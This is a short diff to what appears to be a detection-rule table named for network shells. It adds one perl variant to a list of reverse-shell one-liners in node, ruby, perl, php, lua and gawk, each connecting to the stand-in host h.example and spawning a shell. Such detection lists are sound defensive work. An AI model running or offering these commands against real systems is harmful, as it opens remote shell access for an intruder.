@@ -91,6 +91,7 @@ export const codeNetworkShell: RuleRow = {
     `node -e 'require("net").createConnection(9001,"h.example",function(){var p=require("child_process").spawn("/bin/bash");this.pipe(p.stdin);p.stdout.pipe(this)})'`,
     `ruby -rsocket -e 's=TCPSocket.new("h.example",9001); while l=s.gets; IO.popen(l,"r"){|o| s.print o.read}; end'`,
     `perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr=>"h.example:9001"); open(STDIN,"<&",$c); exec("/bin/sh -i")'`,
+    `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"h.example:9001"); $~->fdopen($c,w); system$_ while<>'`,
     `php -r '$c=fsockopen("h.example",9001); exec("sh <&3 >&3 2>&3");'`,
     `lua -e 'local c=require("socket").tcp(); c:connect("h.example",9001); os.execute("/bin/sh -i <&3 >&3")'`,
     `gawk 'BEGIN {s="/inet/tcp/0/h.example/9001"; while ((s |& getline c) > 0) while ((c | getline l) > 0) print l |& s}'`,
